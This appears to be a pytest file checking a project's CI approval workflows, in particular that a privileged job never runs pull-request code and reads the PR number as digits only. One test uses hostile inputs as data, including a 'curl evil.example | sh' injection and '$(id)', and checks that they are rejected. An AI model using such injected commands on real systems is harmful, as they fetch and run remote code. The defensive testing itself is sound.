"""The approval workflows: valid for GitHub/GitLab, and never running a PR's code with write access.

Validity against SchemaStore's schemas (check-jsonschema, offline); the rest on the parsed files,
and the step that reads the (untrusted) artifact is run for real with hostile contents.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.test_workflows import GITLAB, PUBLISH, REVIEW, ROOT, load, run_lines, script, steps

STATUS = ROOT / ".github/workflows/aprobacion.yml"
BIN = Path(sys.executable).parent


def test_status_workflow_is_valid() -> None:
    result = subprocess.run(
        [str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(STATUS)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_review_events_reach_the_privileged_workflow_only_as_a_pr_number() -> None:
    review, status = load(REVIEW), load(STATUS)
    assert review["on"]["pull_request_review"]["types"] == ["submitted", "edited", "dismissed"]
    assert review["jobs"]["revisar"]["if"] == "${{ github.event_name == 'pull_request' }}"
    event = review["jobs"]["aprobacion-evento"]
    assert event["permissions"] == {}
    upload = next(s for s in steps(event) if s.get("uses", "").startswith("actions/upload-artifact@"))
    assert status["on"]["workflow_run"]["workflows"] == [review["name"]]
    [job] = status["jobs"].values()
    download = next(s for s in steps(job) if s.get("uses", "").startswith("actions/download-artifact@"))
    assert download["with"]["name"] == upload["with"]["name"]
    assert job["permissions"]["statuses"] == "write" and job["permissions"]["pull-requests"] == "write"
    # The privileged job runs main's code: it checks out the default branch, never the PR head.
    checkout = next(s for s in steps(job) if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    text = STATUS.read_text(encoding="utf-8")
    assert "head_sha" not in text and "pull_request.head" not in text
    command = next(s for s in steps(job) if "pregon aprobacion estado" in s.get("run", ""))
    assert '--pr "$PR_NUMBER"' in command["run"] and "${{" not in command["run"]  # values through env only


@pytest.mark.parametrize(
    ("content", "accepted"),
    [("12\n", "12"), ("7; curl evil.example | sh\n", None), ("$(id)\n", None), ("\n", None), ("1" * 30, None)],
)
def test_the_artifact_is_read_as_digits_only(tmp_path: Path, content: str, accepted: str | None) -> None:
    [job] = load(STATUS)["jobs"].values()
    read = next(s for s in steps(job) if s.get("id") == "evento")
    (tmp_path / "evento").mkdir()
    (tmp_path / "evento" / "pr").write_text(content, encoding="utf-8")
    output = tmp_path / "github_output"
    output.write_text("")
    result = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", read["run"]],
        cwd=tmp_path,
        env={**os.environ, "GITHUB_OUTPUT": str(output)},
        capture_output=True,
        text=True,
        check=False,
    )
    if accepted is None:
        assert result.returncode != 0 and output.read_text() == ""
    else:
        assert result.returncode == 0 and output.read_text() == f"pr={accepted}\n"


def test_publish_records_the_approvals_before_syndicating() -> None:
    job = load(PUBLISH)["jobs"]["difundir"]
    names = [s.get("run", "") for s in steps(job)]
    record = next(i for i, r in enumerate(names) if "pregon aprobacion registrar" in r)
    send = next(i for i, r in enumerate(names) if "pregon syndicate" in r)
    assert record < send
    assert steps(job)[record]["if"] == "${{ github.event_name == 'push' }}"
    checkout = next(s for s in steps(job) if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0
    alert = load(PUBLISH)["jobs"]["avisar"]
    assert alert["if"] == "${{ failure() }}" and set(alert["needs"]) == {"construir", "desplegar", "difundir"}
    assert "pregon alerta" in run_lines(alert)


def test_gitlab_records_merge_request_approvals_before_syndicating() -> None:
    lines = script(load(GITLAB)["difundir"])
    record = next(i for i, line in enumerate(lines) if "pregon aprobacion registrar --forja gitlab" in line)
    send = next(i for i, line in enumerate(lines) if "pregon syndicate" in line)
    assert record < send


def test_the_commands_the_workflows_call_exist() -> None:
    def helptext(*args: str) -> str:
        done = subprocess.run([str(BIN / "pregon"), *args, "--help"], capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout

    assert "--pr" in helptext("aprobacion", "estado") and "--enlace" in helptext("aprobacion", "estado")
    assert "--commit" in helptext("aprobacion", "registrar") and "gitlab" in helptext("aprobacion", "registrar")
    assert "--motivo" in helptext("alerta")
